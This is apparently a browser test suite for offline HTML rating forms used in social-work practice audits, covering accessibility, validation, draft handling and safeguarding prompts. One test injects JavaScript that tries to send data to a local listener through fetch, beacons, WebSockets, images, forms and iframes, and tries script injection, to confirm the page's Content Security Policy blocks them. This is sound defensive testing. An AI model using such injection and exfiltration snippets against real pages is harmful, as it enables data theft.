"""Forms in a real browser: by keyboard alone, offline, and what comes back is what was entered."""

import re
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from datetime import date, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.request import urlopen

import pytest
from playwright.sync_api import BrowserContext, Page

import fidelity as fd
from fidelity.collect.ratings import from_text
from fidelity.collect.record import Record, record_from_text
from fidelity.present.form import write_form
from fidelity.present.form_words import audiences_of
from fidelity.rubric import Rubric
from tests.browser.conftest import Opened
from tests.browser.typist import Plan, Typist, plan, surveyed
from tests.present.parsed import PAYLOADS

pytestmark = pytest.mark.browser

Open = Callable[[Path], Opened]
FORMS = [(rubric, audience) for rubric in fd.rubric_ids()
         for audience in audiences_of(fd.read_rubric(rubric))]  # fmt: skip
PRACTICE = {
    "piece": "004-Zoë/7", "rater": "R 01", "date": "03/09/2026", "team": "Nörd & West",
    "purpose": "double", "case": "0012", "minutes": "45",
}  # fmt: skip
SURVEY = {"piece": "0042", "team": "Ost"}


def made(rubrics: list[Rubric], audience: str, path: Path, **options: Any) -> Path:
    return write_form(rubrics, path / "form.html", audience=audience, **options)


def filled(
    page: Opened, rubrics: list[Rubric], audience: str, folder: Path, short: bool = False
) -> tuple[Typist, Plan, Record]:
    fields = SURVEY if surveyed(audience) else {**PRACTICE, "rater_role": rubrics[0].raters[1]}
    if audience == "staff":
        fields = {**fields, "rater_role": rubrics[0].raters[1]}
    wanted = plan(rubrics, audience, fields, short)
    typist = Typist(page.page)
    typist.fill(wanted)
    return typist, wanted, typist.save(wanted, folder)


@pytest.mark.parametrize(("rubric_id", "audience"), FORMS)
def test_what_is_entered_by_keyboard_comes_back(
    opened: Open, tmp_path: Path, rubric_id: str, audience: str
) -> None:
    rubric = fd.read_rubric(rubric_id)
    page = opened(made([rubric], audience, tmp_path))
    _every_control_is_named(page)
    typist, wanted, record = filled(page, [rubric], audience, tmp_path)

    assert list(record.ratings) == wanted.recorded
    today = date.today().isoformat()
    about = {**wanted.fields, "rated_on": today}
    about |= {"rater": "0042", "date": today} if surveyed(audience) else {"date": "2026-09-03"}
    assert about.items() <= dict(record.assessment).items()
    assert record.concern == {"concern": "no"}
    assert abs(datetime.now() - datetime.fromisoformat(record.made_at)) < timedelta(minutes=2)
    assert [(s.id, s.version, s.fingerprint, s.short) for s in record.rubrics] == [
        (rubric.id, rubric.version, rubric.fingerprint, False)
    ]
    _passes_the_gate(record, rubric)

    assert max(typist.tabs.values()) <= 2, typist.tabs.most_common(3)
    assert set(typist.tabs) == set(wanted.ratings)
    assert page.outside == []
    assert page.said == []
    _fits_a_phone(page.page)


def _passes_the_gate(record: Record, rubric: Rubric) -> None:
    ratings = from_text(record.table(rubric), rubric)
    found = ratings.frame.to_native()
    answered = found[found["level"].notna() | found["code"].notna()]
    given = {r.item: r.value for r in record.ratings if r.value and r.rubric == rubric.id}
    assert set(answered["item"]) == set(given)
    for row in answered.itertuples():
        value = given[row.item]
        assert value == row.code if not value.isdigit() else int(value) == row.level


def _every_control_is_named(page: Opened) -> None:
    """As the browser tells assistive technology: its own tree of names and groups."""
    session = page.page.context.new_cdp_session(page.page)
    nodes = session.send("Accessibility.getFullAXTree")["nodes"]
    session.detach()
    by_id = {node["nodeId"]: node for node in nodes}
    controls = [node for node in nodes if _role(node) in {"radio", "textbox", "combobox"}]
    assert len(controls) > 10
    for node in controls:
        assert _name(node), node
        group = by_id.get(node.get("parentId", ""))
        while group and not (_role(group) in {"group", "radiogroup"} and _name(group)):
            group = by_id.get(group.get("parentId", ""))
        assert group or node.get("ignored"), f"{_name(node)} belongs to no named group"


def _role(node: dict[str, Any]) -> str:
    return str(node.get("role", {}).get("value", ""))


def _name(node: dict[str, Any]) -> str:
    return str(node.get("name", {}).get("value", "")).strip()


def test_several_rubrics_in_one_sitting(opened: Open, tmp_path: Path) -> None:
    rubrics = [fd.read_rubric("miti4"), fd.read_rubric("cfsw_skills")]
    page = opened(made(rubrics, "practice", tmp_path))
    _, wanted, record = filled(page, rubrics, "practice", tmp_path)
    assert [stamp.id for stamp in record.rubrics] == ["miti4", "cfsw_skills"]
    assert list(record.ratings) == wanted.recorded
    for rubric in rubrics:
        _passes_the_gate(record, rubric)
    _is_taken_in(next(tmp_path.glob("*.json")), record, tmp_path / "data")


def _is_taken_in(file: Path, record: Record, folder: Path) -> None:
    """The command that collects forms takes it, and the folder is read as every other."""
    words = [sys.executable, "-m", "fidelity", "ingest", str(file), "-o", str(folder)]
    told = subprocess.run(words, check=False, capture_output=True, text=True, encoding="utf-8")
    assert told.returncode == 0, told.stderr
    taken = fd.read_folder(folder)
    assert set(taken) == {stamp.id for stamp in record.rubrics}
    for ratings in taken.values():
        (row,) = ratings.assessments.to_dict("records")
        for key in ("piece", "rater", "team", "case"):
            assert row[key] == record.assessment[key]


def test_a_short_form_asks_the_must_haves_and_says_so(opened: Open, tmp_path: Path) -> None:
    rubric = fd.read_rubric("sos_case_file")
    page = opened(made([rubric], "practice", tmp_path, short=True))
    _, wanted, record = filled(page, [rubric], "practice", tmp_path, short=True)
    assert {r.item for r in wanted.ratings.values()} == set(rubric.must_haves)
    assert record.rubrics[0].short
    assert "Short form" in page.page.locator("header").inner_text()


@pytest.fixture
def audit(opened: Open, tmp_path: Path) -> Opened:
    """A form for one short rubric."""
    return opened(made([fd.read_rubric("cfsw_skills")], "practice", tmp_path))


def complete(page: Opened, **fields: str) -> None:
    page.page.check("#concern-no")
    about = {"piece": "A-001", "rater": "R1", **fields}
    for key, text in about.items():
        page.page.fill(f"#{key}", text)
    page.page.select_option("#rater_role", "peer")
    for item in fd.read_rubric("cfsw_skills").items:
        page.page.check(f"#cfsw_skills-{item}-3")


def saved(page: Opened) -> Record:
    with page.page.expect_download() as coming:
        page.page.click("#save")
    return record_from_text(coming.value.path().read_text(encoding="utf-8"))


def test_a_reload_keeps_the_draft_and_saving_clears_it(audit: Opened) -> None:
    page = audit.page
    page.check("#concern-no")
    page.fill("#piece", "A-001")
    page.check("#cfsw_skills-empathy-4")
    page.fill("#cfsw_skills-empathy-note", "Zoë\nline two")
    assert page.inner_text("#count") == "1 of 7 scored"
    assert page.inner_text("#state") == "Not saved yet"
    page.reload()
    assert page.input_value("#piece") == "A-001"
    assert page.is_checked("#cfsw_skills-empathy-4")
    assert page.input_value("#cfsw_skills-empathy-note") == "Zoë\nline two"
    assert page.inner_text("#count") == "1 of 7 scored"
    assert "Your draft of" in page.inner_text("#state")
    complete(audit)
    saved(audit)
    assert page.evaluate("sessionStorage.length + localStorage.length") == 0
    page.reload()
    assert page.inner_text("#count") == "0 of 7 scored"
    assert page.input_value("#piece") == ""


def test_the_copy_is_the_file_and_the_next_one_keeps_who_scores(audit: Opened) -> None:
    complete(audit, team="North")
    record = saved(audit)
    assert audit.page.evaluate("document.activeElement.id") == "saved"
    assert record_from_text(audit.page.input_value("#copied")) == record
    assert audit.page.inner_text("#file") == "cfsw_skills_A-001_R1.json"
    audit.page.click("#next")
    assert audit.page.input_value("#rater") == "R1"
    assert audit.page.input_value("#team") == "North"
    assert audit.page.input_value("#piece") == ""
    assert audit.page.inner_text("#count") == "0 of 7 scored"
    assert not audit.page.is_checked("#concern-no")


def test_what_is_wrong_stands_in_a_list_that_leads_there(audit: Opened) -> None:
    page = audit.page
    page.fill("#date", "31/02/2026")
    page.click("#save")
    problems = page.locator("#problems")
    assert page.evaluate("document.activeElement.id") == "problems"
    assert problems.get_attribute("role") == "alert"
    told = problems.locator("a").all_inner_texts()
    assert told == [
        "Answer the question about a child at risk: yes or no.",
        "Audit or observation reference: this is needed.",
        "Scored by: this is needed.",
        "In which role: this is needed.",
        "Date of the practice looked at: write a date, such as 30/11/2026.",
    ]
    problems.locator("a").nth(4).click()
    assert page.evaluate("document.activeElement.id") == "date"
    assert page.get_attribute("#date", "aria-invalid") == "true"
    assert "write a date" in page.inner_text("#date-error")


@pytest.mark.parametrize(
    ("field", "text", "kind"),
    [
        ("piece", "John Smith", "a name"), ("rater", "Jane O'Neill", "a name"),
        ("piece", "943 476 5919", "an NHS number"), ("piece", "QQ 12 34 56 C", ""),
        ("piece", "AB123456C", "a National Insurance number"), ("case", "SW1A 1AA", "a postcode"),
        ("piece", "j.smith@example.org", "an e-mail address"), ("piece", "07700 900123", "a phone"),
        ("piece", "12/03/2014", "a date of birth"), ("rater", "A123456789012", "a pupil number"),
        ("piece", "SF-0042", ""), ("team", "North West", ""), ("rater", "R01", ""),
        ("rater", "Panel North", ""),
    ],
)  # fmt: skip
def test_references_that_look_like_people_are_refused(
    audit: Opened, field: str, text: str, kind: str
) -> None:
    complete(audit)
    audit.page.evaluate(f"document.getElementById('{field}').value = {text!r}")
    if kind:
        audit.page.click("#save")
        assert f"looks like {kind}" in audit.page.inner_text("#problems")
    else:
        assert saved(audit).assessment[field] == text


def test_a_worry_about_a_child_comes_first_and_can_be_saved_at_once(audit: Opened) -> None:
    page = audit.page
    first = page.locator("form fieldset").first
    assert "Are you worried that a child may be at risk of harm now?" in first.inner_text()
    assert page.inner_text("#act") == ""
    page.check("#concern-yes")
    assert page.locator("#act").get_attribute("role") == "alert"
    assert "Stop scoring" in page.inner_text("#act")
    assert "This tool alerts nobody" in page.inner_text("#act")
    page.fill("#piece", "A-009")
    page.fill("#rater", "R1")
    page.select_option("#rater_role", "peer")
    page.fill("#escalated_on", "5/9/2026")
    page.fill("#escalated_to", "Team Manager")
    record = saved(audit)
    assert record.concern == {
        "concern": "yes", "escalated_on": "2026-09-05", "escalated_to": "Team Manager",
    }  # fmt: skip
    assert record.concerns[0].open
    assert record.ratings == ()


def test_an_answer_can_be_taken_back(audit: Opened) -> None:
    page = audit.page
    page.check("#cfsw_skills-empathy-4")
    page.focus("#cfsw_skills-empathy-4")
    page.keyboard.press("Delete")
    assert page.inner_text("#count") == "0 of 7 scored"
    page.check("#cfsw_skills-empathy-2")
    page.click("#cfsw_skills-empathy .clear")
    assert page.inner_text("#count") == "0 of 7 scored"


def test_numbers_are_checked_as_the_rubric_says(opened: Open, tmp_path: Path) -> None:
    page = opened(made([fd.read_rubric("miti4")], "practice", tmp_path)).page
    box = "[data-item=gi] [data-kind=value]"
    right = ("12", "0", "ne", "3.0")
    for text in (*right, "1000", "1.5", "-1", "NA", "twelve"):
        page.fill(box, text)
        page.click("#save")
        assert ("GI " in page.inner_text("#problems h2 + ul")) != (text in right), text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_text_in_a_rubric_does_nothing(opened: Open, tmp_path: Path, payload: str) -> None:
    rubric = fd.read_rubric("cfsw_skills")
    first = rubric.components[0]
    item = first.items[0].model_copy(
        update={"text": payload, "observes": payload, "levels": {"1": payload}, "na_when": payload}
    )
    part = first.model_copy(update={"items": (item, *first.items[1:]), "title": payload})
    told = rubric.model_copy(
        update={"title": payload, "components": (part, *rubric.components[1:]), "notice": payload}
    )
    page = opened(made([told], "practice", tmp_path, heading=payload))
    page.page.mouse.move(300, 300)
    complete(page)
    saved(page)
    assert page.said == []
    assert page.outside == []
    assert page.page.locator("h1").inner_text() == " ".join(payload.split())
    assert page.page.locator("script").count() == 1
    assert page.page.locator("iframe, img, svg").count() == 0


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """A server on this machine that notes who calls."""
    calls: list[str] = []

    class Noted(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            calls.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - the name is the server's

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Noted)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"127.0.0.1:{server.server_port}", calls
    server.shutdown()
    server.server_close()


def test_the_policy_lets_nothing_out_nor_run(
    opened: Open, tmp_path: Path, listener: tuple[str, list[str]]
) -> None:
    """Even a script that got into the page could reach nobody, not even on this machine."""
    address, calls = listener
    urlopen(f"http://{address}/reached").close()
    assert calls == ["/reached"]
    page = opened(made([fd.read_rubric("cfsw_skills")], "practice", tmp_path))
    for attempt in (
        f"fetch('http://{address}/fetch', {{mode: 'no-cors'}})",
        f"navigator.sendBeacon('http://{address}/beacon', 'told')",
        f"new WebSocket('ws://{address}/socket')",
        f"document.body.append(Object.assign(new Image(), {{src: 'http://{address}/image'}}))",
        (
            f"f = document.createElement('form'); f.action = 'http://{address}/form'; "
            "document.body.append(f); f.submit()"
        ),
        (
            f"f = document.createElement('iframe'); f.src = 'http://{address}/frame'; "
            "document.body.append(f)"
        ),
        (
            "f = document.createElement('script'); f.textContent = 'ran = true'; "
            "document.body.append(f)"
        ),
        "document.body.insertAdjacentHTML('beforeend', '<b id=injected>x</b>')",
    ):
        page.page.evaluate(f"() => {{ let f; try {{ {attempt} }} catch (e) {{ void e }} }}")
    page.page.wait_for_timeout(300)
    assert calls == ["/reached"]
    assert page.page.evaluate("typeof ran") == "undefined"
    assert page.page.locator("#injected").count() == 0
    assert sum("Content Security Policy" in said for said in page.said) >= 6


def _fits_a_phone(page: Page) -> None:
    page.set_viewport_size({"width": 360, "height": 740})
    assert page.evaluate("document.documentElement.scrollWidth") <= 360
    small = page.evaluate(
        "[...document.querySelectorAll('.choice label, button:not(.clear), select, summary')]"
        ".filter(e => e.offsetParent && e.getBoundingClientRect().height < 40).length"
    )
    assert small == 0, "too small for a thumb"


def test_families_are_told_where_to_turn(opened: Open, tmp_path: Path) -> None:
    rubric = fd.read_rubric("sos_family_feedback")
    child = opened(made([rubric], "child", tmp_path)).page
    told = child.inner_text("header")
    assert "0800 1111" in told
    assert "I cannot keep that secret" in told
    assert "That is your duty" in told
    assert child.locator(".face").count() == 3 * 6
    assert child.locator(".face").first.get_attribute("aria-hidden") == "true"
    size = "e => parseFloat(getComputedStyle(e).fontSize)"
    assert child.locator(".item legend").first.evaluate(size) >= 24
    parent = opened(made([rubric], "parent", tmp_path)).page
    assert "999" in parent.inner_text("header")
    assert parent.locator(".item label").first.evaluate(size) >= 20
    assert {child.locator(".item").count(), parent.locator(".item").count()} == {6, 10}


def test_every_reply_has_a_code_of_its_own(opened: Open, tmp_path: Path) -> None:
    """Nobody makes one up, so that no name gets in; a new form and a new reply get a new one."""
    path = made([fd.read_rubric("sos_family_feedback")], "child", tmp_path)
    page, other = opened(path).page, opened(path).page
    first = page.input_value("#piece")
    assert re.fullmatch("R-[2-9A-HJKMNP-Z]{8}", first)
    assert other.input_value("#piece") != first
    page.check("#concern-no")
    page.check("#sos_family_feedback-cy1-3")
    page.reload()
    assert page.input_value("#piece") == first, "the draft keeps its code"
    page.click("#save")
    with page.expect_download() as coming:
        page.click("#problems button")
    record = record_from_text(coming.value.path().read_text(encoding="utf-8"))
    assert record.assessment["rater"] == record.assessment["piece"] == first
    assert record.assessment["rater_role"] == "child"
    page.click("#next")
    assert page.input_value("#piece") != first


def test_what_cannot_be_seen_is_left_out(audit: Opened) -> None:
    """Pasted text brings marks that the reader would refuse."""
    complete(audit, piece="A\u200b-00\u202e1", team="Nord\ufeff")
    audit.page.fill("#cfsw_skills-empathy-note", "ok\u0007 \U0001f600 then")
    record = saved(audit)
    assert record.assessment["piece"] == "A-001"
    assert record.assessment["team"] == "Nord"
    assert record.ratings[0].note == "ok \U0001f600 then"


def test_it_prints_whole(opened: Open, tmp_path: Path) -> None:
    page = opened(made([fd.read_rubric("cfsw_skills")], "practice", tmp_path)).page
    page.emulate_media(media="print")
    assert not page.is_visible("#save")
    assert not page.is_visible("#progress")
    assert page.is_visible("#escalated_on")
    assert page.is_visible("[data-item=empathy] legend")


def test_the_browser_needs_no_storage(browser: BrowserContext, tmp_path: Path) -> None:
    """Where an office forbids storage the form still works, and says that no draft is kept."""
    page = browser.new_page()
    page.add_init_script(
        "Object.defineProperty(window, 'sessionStorage', {get() { throw new Error('no') }})"
    )
    page.goto(made([fd.read_rubric("cfsw_skills")], "practice", tmp_path).as_uri())
    page.check("#cfsw_skills-empathy-4")
    assert "keeps no draft" in page.inner_text("#state")
    assert page.inner_text("#count") == "1 of 7 scored"
    page.close()
